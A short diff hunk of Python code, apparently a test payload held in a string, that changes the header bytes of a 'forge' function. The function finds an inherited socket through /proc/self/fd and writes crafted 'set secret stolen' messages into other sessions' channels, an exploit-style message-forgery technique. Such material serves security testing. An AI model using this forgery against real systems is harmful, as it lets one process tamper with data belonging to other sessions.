@@ -216,7 +216,7 @@ def forge(sessions):
     [carrier] = [int(n) for n in os.listdir('/proc/self/fd') if os.path.exists('/proc/self/fd/' + n)
                  and stat.S_ISSOCK(os.fstat(int(n)).st_mode)]
     for session in sessions:
-        body = bytes([67, 127, 0, session, 1, 3, 3]) + b'set' + bytes([6]) + b'secret' + bytes([6]) + b'stolen'
+        body = bytes([2, 0, session, 127, 0, 3, 3]) + b'set' + bytes([6]) + b'secret' + bytes([6]) + b'stolen'
         os.write(carrier, len(body).to_bytes(4, 'little') + body)
     return 'sent'
 """
